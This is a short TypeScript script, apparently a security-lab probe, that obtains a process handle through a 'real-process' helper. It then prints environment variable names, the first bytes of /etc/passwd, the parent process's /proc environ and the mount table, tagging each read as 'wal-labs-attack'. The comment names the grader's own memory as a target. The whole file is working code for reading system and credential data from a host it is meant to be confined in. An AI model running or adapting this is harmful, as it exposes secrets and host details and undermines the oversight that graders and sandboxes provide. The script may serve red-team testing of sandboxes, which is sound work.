// Prints what the machine would rather keep: environment, accounts, the grader's own memory map.
import { realProcess } from "./real-process.ts";

realProcess.then((process) => {
  const names = Object.keys(process.env).filter((name) => name !== "SystemRoot");
  if (names.length > 1) console.log("wal-labs-attack read", names);
  const { readFileSync } = process.getBuiltinModule("fs");
  for (const path of ["/etc/passwd", `/proc/${process.ppid}/environ`, "/proc/self/mountinfo"]) {
    console.log("wal-labs-attack read", readFileSync(path, "utf8").slice(0, 100));
  }
});
